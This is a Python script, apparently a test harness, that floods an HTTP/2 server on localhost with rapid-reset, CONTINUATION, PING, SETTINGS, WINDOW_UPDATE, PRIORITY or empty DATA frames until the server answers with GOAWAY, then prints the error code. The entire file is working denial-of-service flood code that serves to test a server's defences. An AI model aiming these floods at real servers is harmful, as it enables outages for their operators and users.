# An HTTP/2 client that sends one request, and then the frames that its argument names until the server ends the
# connection. Prints the error code of the server's GOAWAY.
import socket, ssl, struct, sys

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4

def frame(kind, flags, stream, payload=b''):
    return len(payload).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + payload

def block(*fields):
    text = b''.join(bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in fields)
    return text

def head(method):
    return block((b':method', method), (b':scheme', b'https'), (b':authority', b'site'), (b':path', b'/1'))

# A client's streams have odd numbers. Stream 1 is the request that stays open.
def streams():
    number = 3
    while True:
        yield number
        number += 2
numbers = streams()

def rapid_reset():
    number = next(numbers)
    return frame(HEADERS, END_HEADERS | END_STREAM, number, head(b'GET')) + frame(RST_STREAM, 0, number, struct.pack('>I', 8))

def continuation():
    return frame(CONTINUATION, 0, 3, block((b'x-more', b'y' * 100)))

FLOODS = {
    'rapid-reset': rapid_reset,
    'continuation': continuation,
    'ping': lambda: frame(PING, 0, 0, b'12345678'),
    'settings': lambda: frame(SETTINGS, 0, 0),
    'empty-data': lambda: frame(DATA, 0, 1),
    'window-update': lambda: frame(WINDOW_UPDATE, 0, 1, struct.pack('>I', 1)),
    'priority': lambda: frame(PRIORITY, 0, 1, struct.pack('>IB', 0, 16)),
}
name = sys.argv[1]
flood = FLOODS[name]

context = ssl._create_unverified_context()
context.set_alpn_protocols(['h2'])
stream = context.wrap_socket(socket.create_connection(('127.0.0.1', 443), 60), server_hostname='site')
first = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0)
first += frame(HEADERS, END_HEADERS, 1, head(b'POST') + block((b'content-length', b'5')))
if name == 'continuation': first += frame(HEADERS, END_STREAM, 3, head(b'GET'))
stream.sendall(first)

# Reads before each send: a send to a server that has closed fails, and the GOAWAY would stay unread.
stream.setblocking(False)
received, waiting, count = b'', b'', 0
def read():
    global received
    while True:
        try: data = stream.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError): return
        if not data: raise SystemExit('the end came without a GOAWAY, after %d frames' % count)
        received += data
        while len(received) >= 9:
            length = int.from_bytes(received[:3], 'big')
            if len(received) < 9 + length: break
            kind, payload = received[3], received[9:9 + length]
            received = received[9 + length:]
            if kind == GOAWAY:
                print(name, 'goaway', int.from_bytes(payload[4:8], 'big'), flush=True)
                print(count, 'frames were sent', file=sys.stderr)
                raise SystemExit(0)
while True:
    read()
    if not waiting:
        waiting = b''.join(flood() for _ in range(20))
        count += 20
    try: waiting = waiting[stream.send(waiting):]
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError): pass
